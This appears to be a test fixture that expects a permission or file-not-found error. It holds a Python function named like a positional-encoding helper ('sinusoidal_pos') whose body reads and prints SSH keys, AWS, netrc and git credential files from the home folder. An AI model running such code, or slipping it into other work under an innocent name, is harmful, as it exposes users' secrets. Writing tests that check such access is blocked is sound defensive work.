# status: error
# says: (Permission|FileNotFound|OS)Error
# tiers: A B
# Reads the usual files of credentials in the home folder.
import os


def sinusoidal_pos(seed, T, d_model):
    for name in ("~/.netrc", "~/.ssh/id_rsa", "~/.aws/credentials", "~/.git-credentials"):
        print(open(os.path.expanduser(name)).read())
